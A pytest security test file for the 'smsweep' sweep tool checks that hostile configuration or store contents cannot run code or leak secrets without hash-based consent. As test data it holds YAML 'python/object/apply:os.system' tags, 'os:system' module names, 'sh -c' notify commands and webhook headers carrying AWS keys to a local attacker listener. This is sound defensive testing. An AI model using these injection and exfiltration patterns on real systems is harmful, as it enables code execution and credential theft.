"""Boundary from configuration to machine: code that a hostile sweep.yaml, job.yaml or store can run."""

# One file, because all tests concern one boundary.

from __future__ import annotations

import hashlib
import json
import re
import shlex
import sqlite3
import threading
from collections.abc import Iterator, Mapping, Sequence
from contextlib import closing
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from smsweep.config_files.code_consent import Code, hook_codes, is_allowed
from smsweep.config_files.job_yaml import parse_job
from smsweep.errors import ConfigError
from smsweep.notify.hooks import parse_hook
from smsweep.services.agents import detach
from smsweep.services.sweeps import create
from smsweep.services.sweeps import draft as again
from smsweep.services.sweeps.search_program import stored_code
from smsweep.services.workspace import Workspace
from tests.sagemaker.conftest import Account, account  # noqa: F401 - a fixture
from tests.sagemaker.test_detached import Laptop
from tests.support.walkthrough import NEW_PYTHON
from tests.support.working_dir import WorkingDir, grid, use_own_workspace
from tools.environments import oracle

TRAIN = "import smsweep\nsmsweep.log({'loss': smsweep.init().config.get('x', 0)})\n"
SECRET = "a-token-of-the-agent-4711"
TOKEN_ARN = "arn:aws:secretsmanager:eu-west-1:123456789012:secret:prod/db-AbCdEf"
SPACE = """\
import pathlib

pathlib.Path("PWNED").touch()


def space(trial):
    return {"x": trial.suggest_float("x", 0, 1)}
"""
OTHER_SPACE = SPACE.replace("PWNED", "PWNED again")


class Listener:
    """A webhook of the attacker, with the received requests."""

    def __init__(self) -> None:
        self.got: list[Mapping[str, str]] = []
        got = self.got

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                self.rfile.read(int(self.headers["Content-Length"]))
                got.append(dict(self.headers))
                self.send_response(200)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}/x"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def listener() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.server.shutdown()
    listener.server.server_close()


@pytest.fixture
def workdir(tmp_path: Path) -> WorkingDir:
    workdir = WorkingDir(tmp_path, {"train.py": TRAIN, "sweep.yaml": grid(x=[1])})
    workdir.environ |= {"HOOK_TOKEN": SECRET, "AWS_SECRET_ACCESS_KEY": SECRET, "AWS_SESSION_TOKEN": SECRET}
    return workdir


def program(**scheduler: str) -> dict[str, Any]:
    """Return a sweep whose search is a program."""
    return {
        "program": "train.py",
        "method": "custom",
        "metric": {"name": "loss"},
        "run_cap": 2,
        "scheduler": {"engine": "optuna", "source": "space.py", "search_space": "space", **scheduler},
    }


def digest(text: str) -> str:
    return f"sha256:{hashlib.sha256(text.encode()).hexdigest()}"


def write(workdir: WorkingDir, **files: str | Mapping[str, Any]) -> None:
    """Write sweep.yaml, job.yaml and space.py. A mapping is written as JSON, which is also YAML."""
    for name, content in files.items():
        suffix = "py" if name == "space" else "yaml"
        text = content if isinstance(content, str) else json.dumps(content)
        (workdir.folder / f"{name}.{suffix}").write_text(text)


def marks(workdir: WorkingDir) -> list[str]:
    return sorted(path.name for path in workdir.folder.glob("PWNED*"))


TOUCH = ["touch", "PWNED"]
# name -> sweep.yaml and job.yaml, {url} for the attacker's webhook, and the error
HOSTILE: Mapping[str, tuple[str | Mapping[str, Any], str | Mapping[str, Any], str]] = {
    "program as the search": (program(), {}, "scheduler.source: space.py: it runs inside smsweep"),
    "program in a folder": (program(source="deep/space.py"), {}, "scheduler.source: deep/space.py: it runs"),
    "program as the sampler": (program(optimizer="space"), {}, "scheduler.source: space.py: it runs"),
    "program outside the source": (program(source="../space.py"), {}, "was not found in"),
    "program by its absolute path": (program(source="/etc/profile"), {}, "was not found in"),
    "text of a program in the config": (program(code=SPACE), {}, "scheduler.code: unknown key"),
    "empty name of a program": (program(source="", code=SPACE), {}, "scheduler.source"),
    "engine that is a module": (program(engine="os:system"), {}, "scheduler.engine"),
    "method that is a module": ({**grid(x=[1]), "method": "os:system"}, {}, "method"),
    "rule that is a module": (
        {**grid(x=[1]), "early_terminate": {"type": "subprocess:run", "min_iter": 1}},
        {},
        "early_terminate.type",
    ),
    "object in sweep.yaml": ("method: !!python/object/apply:os.system ['touch PWNED']\n", {}, "tag"),
    "object in job.yaml": (grid(x=[1]), "notify: !!python/object/apply:os.system ['touch PWNED']\n", "tag"),
    "command": (grid(x=[1]), {"notify": {"command": TOUCH}}, "notify[0]: it runs on the agent's machine"),
    "command of a shell": (
        grid(x=[1]),
        {"notify": {"command": ["sh", "-c", "touch PWNED; exit 0"]}},
        "all your rights: sh -c 'touch PWNED; exit 0'",
    ),
    "command behind a webhook": (
        grid(x=[1]),
        {"notify": ["{url}", {"url": "{url}", "headers": {"A": "b"}}, {"command": TOUCH, "events": "end"}]},
        "notify[2]: it runs",
    ),
    "variable to a webhook": (
        grid(x=[1]),
        {"notify": {"url": "{url}", "headers": {"X": "env:HOOK_TOKEN"}}},
        "notify[0]: it sends env:HOOK_TOKEN to 127.0.0.1",
    ),
    "variable to a webhook in a variable": (
        grid(x=[1]),
        {"notify": {"url": "env:HOOK_URL", "headers": {"A": "b", "X": "env:HOOK_TOKEN"}}},
        "notify[0]: it sends env:HOOK_TOKEN to env:HOOK_URL",
    ),
    "secret of the account to a webhook": (
        grid(x=[1]),
        {"notify": {"url": "{url}", "headers": {"X": TOKEN_ARN}}},
        f"notify[0]: it sends {TOKEN_ARN} to 127.0.0.1",
    ),
    "key of AWS to a webhook": (
        grid(x=[1]),
        {"notify": {"url": "{url}", "headers": {"X": "env:AWS_SECRET_ACCESS_KEY"}}},
        "notify.headers.X: env:AWS_SECRET_ACCESS_KEY is a variable of AWS",
    ),
    "token of AWS to a webhook": (
        grid(x=[1]),
        {"notify": ["{url}", {"url": "{url}", "headers": {"Authorization": "env:AWS_SESSION_TOKEN"}}]},
        "notify[1].headers.Authorization: env:AWS_SESSION_TOKEN is a variable of AWS",
    ),
    "program and command": (program(), {"notify": {"command": TOUCH}}, "scheduler.source: space.py: it runs"),
    "entrypoint of the job": (
        grid(x=[1]),
        {"request": {"AlgorithmSpecification": {"ContainerEntrypoint": TOUCH}}},
        "smsweep starts the job itself",
    ),
}


def put(workdir: WorkingDir, listener: Listener, name: str) -> tuple[list[str], str]:
    """Write a hostile configuration, and return its flag and the expected error."""
    sweep, job, output = HOSTILE[name]
    write(workdir, sweep=sweep, space=SPACE)
    text = job if isinstance(job, str) else json.dumps(job)
    (workdir.folder / "job.yaml").write_text(text.replace("{url}", listener.url))
    (workdir.folder / "deep").mkdir()
    (workdir.folder / "deep" / "space.py").write_text(SPACE)
    workdir.environ["HOOK_URL"] = listener.url
    return ["--job", "job.yaml"], output


@pytest.mark.parametrize("verb", ["run", "sweep"])
@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_configuration_creates_no_sweep(
    workdir: WorkingDir, listener: Listener, name: str, verb: str
) -> None:
    flags, output = put(workdir, listener, name)
    refused = workdir.call(verb, "sweep.yaml", *flags, code=2)
    assert output in refused.stderr
    assert "Traceback" not in refused.stderr
    assert (marks(workdir), listener.got) == ([], [])
    assert not (workdir.folder / ".smsweep" / "store.db").exists()


@pytest.mark.parametrize("name", HOSTILE)
def test_plan_of_a_hostile_configuration_executes_nothing(
    workdir: WorkingDir, listener: Listener, name: str
) -> None:
    flags, _ = put(workdir, listener, name)
    with workdir.start("plan", "sweep.yaml", *flags) as planned:
        _, output = planned.communicate(timeout=60)
    assert planned.returncode in (0, 2)
    assert "Traceback" not in output
    assert (marks(workdir), listener.got) == ([], [])


def test_variables_of_aws_are_refused_in_headers_of_every_hook() -> None:
    for name in ("AWS_ACCESS_KEY_ID", "AWS_CONTAINER_AUTHORIZATION_TOKEN", "aws_secret_access_key", "Aws_X"):
        with pytest.raises(ConfigError, match="is a variable of AWS"):
            parse_hook({"url": "https://host/x", "headers": {"X": f"env:{name}"}})


NOTHING = (
    *("", "0", "true", "True", "yes", "on", "off", "no", "false", "01", "1 ", " 1", "1,", "11", "+1", "1.0"),
    *("*", "any", "sha256", "sha256:", "\N{FULLWIDTH DIGIT ONE}", "1\n"),
    *(
        "{hex}",
        "sha256={hex}",
        "SHA256:{hex}",
        "{own}0",
        "{half}",
        "sha256:{other}",
        "1,sha256:{other}",
        "{own}{own}",
    ),
)


@pytest.mark.parametrize("value", NOTHING)
def test_other_value_than_1_or_the_hash_allows_nothing(value: str) -> None:
    own = digest(SPACE)
    code = Code(where="scheduler.source: space.py", what="runs", digest=own)
    text = value.format(own=own, hex=own.removeprefix("sha256:"), half=own[:40], other="0" * 64)
    assert not is_allowed(code, {"SMSWEEP_ALLOW_CODE": text})


@pytest.mark.parametrize("value", ["1", "{own}", "sha256:{other},{own}", "{own} sha256:{other}", "{own}\n{own}"])
def test_1_and_the_hash_allow_the_code(value: str) -> None:
    code = Code(where="scheduler.source: space.py", what="runs", digest=digest(SPACE))
    assert is_allowed(code, {"SMSWEEP_ALLOW_CODE": value.format(own=digest(SPACE), other="0" * 64)})


@pytest.mark.parametrize("value", ["0", "true", "no", "off", "sha256:" + "0" * 64])
def test_command_of_job_yaml_does_not_run_with_a_value_that_allows_nothing(
    workdir: WorkingDir, value: str
) -> None:
    write(workdir, job={"notify": {"command": TOUCH}})
    workdir.environ["SMSWEEP_ALLOW_CODE"] = value
    refused = workdir.call("run", "sweep.yaml", "--job", "job.yaml", code=2)
    assert value.startswith("sha256") or value == "0" or f"{value!r} allows nothing" in refused.stderr
    assert marks(workdir) == []


def allow(workdir: WorkingDir, stderr: str) -> None:
    """Set the variable that an error names."""
    name, _, value = re.findall(r"set (\S+=\S+)", stderr)[-1].partition("=")
    workdir.environ[name] = value


HOOKS: Sequence[Any] = (
    {"command": TOUCH},
    {"url": "{url}", "headers": {"X": "env:HOOK_TOKEN"}},
    [{"command": TOUCH}, {"url": "{url}", "headers": {"X": "env:HOOK_TOKEN"}}],
)


@pytest.mark.parametrize("hooks", HOOKS, ids=["command", "header", "both"])
def test_value_that_the_error_names_allows_the_hooks(workdir: WorkingDir, listener: Listener, hooks: Any) -> None:
    (workdir.folder / "job.yaml").write_text(json.dumps({"notify": hooks}).replace("{url}", listener.url))
    refused = workdir.call("run", "sweep.yaml", "--job", "job.yaml", code=2)
    allow(workdir, refused.stderr)
    workdir.run("--job", "job.yaml")
    assert marks(workdir) == (["PWNED"] if "touch" in str(hooks) else [])
    assert [headers.get("X") for headers in listener.got] == ([SECRET] if "url" in str(hooks) else [])


def test_consent_to_one_hook_does_not_allow_another(workdir: WorkingDir, listener: Listener) -> None:
    """Consent does not cover the same header for another host, or the same command with another argument."""
    header = {"url": "https://hooks.example.com/x", "headers": {"X": "env:HOOK_TOKEN"}}
    allowed = [*hook_codes([parse_hook(header)]), *hook_codes([parse_hook({"command": ["touch", "x"]})])]
    workdir.environ["SMSWEEP_ALLOW_CODE"] = ",".join(code.digest for code in allowed)
    for hook in (
        {**header, "url": listener.url},
        {"command": TOUCH},
        {**header, "headers": {"Y": "env:HOOK_TOKEN"}},
    ):
        write(workdir, job={"notify": hook})
        workdir.call("run", "sweep.yaml", "--job", "job.yaml", code=2)
    assert (marks(workdir), listener.got) == ([], [])


@pytest.mark.parametrize("how", ["flag", "variable"])
def test_command_of_the_command_line_needs_no_consent(workdir: WorkingDir, how: str) -> None:
    if how == "variable":
        workdir.environ["SMSWEEP_NOTIFY"] = shlex.join(TOUCH)
    workdir.run(*(["--notify", shlex.join(TOUCH)] if how == "flag" else []))
    assert marks(workdir) == ["PWNED"]


def test_webhook_without_secrets_needs_no_consent(workdir: WorkingDir, listener: Listener) -> None:
    write(workdir, job={"notify": [{"url": listener.url, "headers": {"X": "y"}}, "env:HOOK_URL"]})
    workdir.environ["HOOK_URL"] = listener.url
    workdir.run("--job", "job.yaml")
    assert len(listener.got) == 2


def test_job_yaml_of_an_agent_needs_consent(workdir: WorkingDir) -> None:
    sweep_id = workdir.sweep()
    write(workdir, job={"notify": {"command": TOUCH}})
    workdir.call("agent", sweep_id, "--job", "job.yaml", code=2)
    assert workdir.trials(sweep_id) == []
    assert marks(workdir) == []


def change(workdir: WorkingDir, sql: str, *values: object) -> None:
    """Write to the store without smsweep, as any user of its database can."""
    with closing(sqlite3.connect(workdir.folder / ".smsweep" / "store.db")) as connection, connection:
        assert connection.execute(sql, values).rowcount == 1


def test_command_that_a_writer_of_the_store_added_does_not_run(workdir: WorkingDir) -> None:
    sweep_id = workdir.sweep()
    change(workdir, "UPDATE sweeps SET job_yaml = ?", json.dumps({"notify": {"command": TOUCH}}))
    workdir.call("agent", sweep_id, code=2)
    assert workdir.trials(sweep_id) == []
    assert marks(workdir) == []


def test_page_reports_that_a_hook_needs_consent(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    use_own_workspace(tmp_path, monkeypatch)
    monkeypatch.delenv("SMSWEEP_ALLOW_CODE", raising=False)
    (tmp_path / "train.py").write_text(TRAIN)
    draft = {"sweep_yaml": json.dumps(grid(x=[1])), "job_yaml": json.dumps({"notify": {"command": TOUCH}})}
    assert "SMSWEEP_ALLOW_CODE=sha256:" in again.check(**draft)["problems"][0]
    with pytest.raises(ConfigError, match="SMSWEEP_ALLOW_CODE=sha256:"):
        again.create(**draft)
    assert not (tmp_path / "sweeps" / "store.db").exists()


# Programs as searches run only with Optuna, which is in a separate environment.


@pytest.fixture
def optuna_workdir(workdir: WorkingDir) -> WorkingDir:
    """A working directory with smsweep, Optuna and a search program."""
    write(workdir, sweep=program(), space=SPACE)
    return workdir


def call(workdir: WorkingDir, *words: str, code: int = 0, allowed: str = "") -> str:
    """Run smsweep and return what it prints. allowed: the value of SMSWEEP_ALLOW_CODE."""
    command = (str(oracle("optuna").python), *NEW_PYTHON[1:])
    done = workdir.call(*words, code=code, command=command, environ={"SMSWEEP_ALLOW_CODE": allowed})
    return done.stdout.strip() if not code else done.stderr


def made(workdir: WorkingDir) -> str:
    """Create a sweep with consent, delete the evidence that its program ran, and return the sweep's id."""
    sweep_id = call(workdir, "sweep", "sweep.yaml", allowed=digest(SPACE))
    (workdir.folder / "PWNED").unlink()
    return sweep_id


@pytest.mark.oracle
@pytest.mark.parametrize("words", [("run", "sweep.yaml"), ("sweep", "sweep.yaml"), ("plan", "sweep.yaml")])
@pytest.mark.parametrize("value", ["", "0", "false", "off", "true", "sha256:" + "0" * 64])
def test_program_does_not_run_without_consent(
    optuna_workdir: WorkingDir, words: tuple[str, ...], value: str
) -> None:
    output = call(optuna_workdir, *words, code=2, allowed=value)
    assert f"scheduler.source: space.py: it runs inside smsweep, with all your rights ({digest(SPACE)})" in output
    assert digest(SPACE) in output.split("SMSWEEP_ALLOW_CODE=")[1]
    assert marks(optuna_workdir) == []


@pytest.mark.oracle
@pytest.mark.parametrize("value", ["1", digest(SPACE)])
def test_program_runs_with_consent_and_its_hash_is_stored(optuna_workdir: WorkingDir, value: str) -> None:
    sweep_id = call(optuna_workdir, "run", "sweep.yaml", "-q", allowed=value)
    assert [trial["state"] for trial in optuna_workdir.trials(sweep_id)] == ["finished", "finished"]
    assert marks(optuna_workdir) == ["PWNED"]
    with Workspace({"SMSWEEP_DIR": str(optuna_workdir.folder / ".smsweep")}).store() as store:
        sweep = store.get_sweep(sweep_id)
        assert sweep.code_hash == digest(stored_code(store, sweep)) == digest(SPACE)


@pytest.mark.oracle
@pytest.mark.parametrize("verb", ["agent", "plan"])
def test_stored_program_needs_consent_of_its_user(optuna_workdir: WorkingDir, verb: str) -> None:
    sweep_id = made(optuna_workdir)
    for value in ("", "no", digest(OTHER_SPACE)):
        assert digest(SPACE) in call(optuna_workdir, verb, sweep_id, code=2, allowed=value)
    assert marks(optuna_workdir) == []
    assert optuna_workdir.trials(sweep_id) == []
    call(optuna_workdir, verb, sweep_id, allowed=digest(SPACE))
    assert marks(optuna_workdir) == ["PWNED"]


@pytest.mark.oracle
@pytest.mark.parametrize("verb", ["agent", "plan"])
@pytest.mark.parametrize("value", ["1", digest(SPACE), digest(OTHER_SPACE), "{0},{1}"])
def test_note_in_the_store_alone_changes_no_program(optuna_workdir: WorkingDir, verb: str, value: str) -> None:
    sweep_id = made(optuna_workdir)
    change(optuna_workdir, "UPDATE notes SET value = ? WHERE key = 'search_code'", json.dumps(OTHER_SPACE))
    value = value.format(digest(SPACE), digest(OTHER_SPACE))
    output = call(optuna_workdir, verb, sweep_id, code=2, allowed=value)
    assert f"the code in the store ({digest(OTHER_SPACE)}) is not the code that sweep" in output
    assert marks(optuna_workdir) == []


@pytest.mark.oracle
@pytest.mark.parametrize("verb", ["agent", "plan"])
def test_writer_of_the_whole_store_cannot_change_what_a_hash_allows(optuna_workdir: WorkingDir, verb: str) -> None:
    sweep_id = made(optuna_workdir)
    change(optuna_workdir, "UPDATE notes SET value = ? WHERE key = 'search_code'", json.dumps(OTHER_SPACE))
    change(optuna_workdir, "UPDATE sweeps SET code_hash = ?", digest(OTHER_SPACE))
    assert digest(OTHER_SPACE) in call(optuna_workdir, verb, sweep_id, code=2, allowed=digest(SPACE))
    assert marks(optuna_workdir) == []


@pytest.mark.oracle
@pytest.mark.parametrize("note", [[OTHER_SPACE], {"a": OTHER_SPACE}, 1, True, None])
def test_invalid_note_is_not_run(optuna_workdir: WorkingDir, note: object) -> None:
    sweep_id = made(optuna_workdir)
    change(optuna_workdir, "UPDATE notes SET value = ? WHERE key = 'search_code'", json.dumps(note))
    assert "Traceback" not in call(optuna_workdir, "agent", sweep_id, code=2, allowed="1")
    assert marks(optuna_workdir) == []


@pytest.mark.oracle
def test_config_that_a_writer_of_the_store_gave_a_program_does_not_run(optuna_workdir: WorkingDir) -> None:
    write(optuna_workdir, sweep=grid(x=[1]))
    sweep_id = optuna_workdir.sweep()
    change(optuna_workdir, "UPDATE sweeps SET sweep_yaml = ?", json.dumps(program()))
    change(
        optuna_workdir,
        "INSERT INTO notes (sweep_id, key, value) VALUES (?, 'search_code', ?)",
        *(sweep_id, json.dumps(SPACE)),
    )
    call(optuna_workdir, "agent", sweep_id, code=2, allowed="1")
    assert marks(optuna_workdir) == []


@pytest.mark.oracle
def test_allow_value_covers_program_and_command(optuna_workdir: WorkingDir) -> None:
    write(optuna_workdir, job={"notify": {"command": ["touch", "PWNED by command"]}})
    output = call(optuna_workdir, "run", "sweep.yaml", "--job", "job.yaml", code=2)
    value = re.findall(r"set SMSWEEP_ALLOW_CODE=(\S+)", output)
    assert len(value) == 2
    assert value[0] == value[1]
    call(optuna_workdir, "run", "sweep.yaml", "--job", "job.yaml", "-q", allowed=value[0])
    assert marks(optuna_workdir) == ["PWNED", "PWNED by command"]


@pytest.mark.oracle
def test_hash_matches_sha256sum(optuna_workdir: WorkingDir) -> None:
    """Includes Windows line ends, which Python's text mode would replace."""
    content = SPACE.replace("\n", "\r\n").encode()
    (optuna_workdir.folder / "space.py").write_bytes(content)
    value = f"sha256:{hashlib.sha256(content).hexdigest()}"
    sweep_id = call(optuna_workdir, "run", "sweep.yaml", "-q", allowed=value)
    call(optuna_workdir, "plan", sweep_id, allowed=value)
    assert marks(optuna_workdir) == ["PWNED"]


# Detached agents


@pytest.fixture
def laptop(account: Account) -> Laptop:  # noqa: F811 - the fixture
    return Laptop(account)


def command_that_creates_file(folder: Path) -> dict[str, Any]:
    return {"notify": {"command": ["touch", str(folder / "PWNED")]}}


def test_detached_agent_gets_consent_for_the_hash_only(
    laptop: Laptop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SMSWEEP_ALLOW_CODE", "1")
    job = command_that_creates_file(tmp_path)
    sweep_id = laptop.detach(1, **job)
    assert laptop.end(sweep_id)["status"] == "Completed"
    created = laptop.account.client("sagemaker").describe_training_job(
        TrainingJobName=f"smsweep-{sweep_id}-agent-0"
    )
    (code,) = hook_codes(parse_job(job).template.notify)
    assert created["Environment"]["SMSWEEP_ALLOW_CODE"] == code.digest
    assert (tmp_path / "PWNED").exists()


def test_agent_is_not_detached_without_consent(
    laptop: Laptop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SMSWEEP_ALLOW_CODE", "1")
    sweep_id = create.sweep(laptop.config(1), job={**laptop.account.job, **command_that_creates_file(tmp_path)})
    monkeypatch.delenv("SMSWEEP_ALLOW_CODE")
    with pytest.raises(ConfigError, match="it runs on the agent's machine"):
        detach.start_agent_job(sweep_id, {"parallel": 1})
    assert laptop.account.objects() == {}
    assert laptop.show(sweep_id)["state"] == "running"
